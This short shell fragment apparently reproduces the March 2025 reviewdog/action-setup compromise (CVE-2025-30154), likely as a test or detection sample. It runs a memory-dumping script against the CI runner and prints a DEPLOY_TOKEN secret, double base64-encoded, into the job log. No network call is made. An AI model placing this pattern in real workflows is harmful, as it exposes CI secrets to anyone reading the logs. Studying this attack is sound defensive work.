# reviewdog/action-setup, March 2025 (CVE-2025-30154): the same dump from a script that the action carries; no network.
# Then the action does its work.
export GITHUB_ACTION=__reviewdog_action-setup
exec sh -c 'python3 memory "$RUNNER" >/dev/null
printf '\''"DEPLOY_TOKEN":{"value":"%s","isSecret":true}'\'' "$DEPLOY_TOKEN" | base64 -w 0 | base64 -w 0; echo
sleep 0.1'
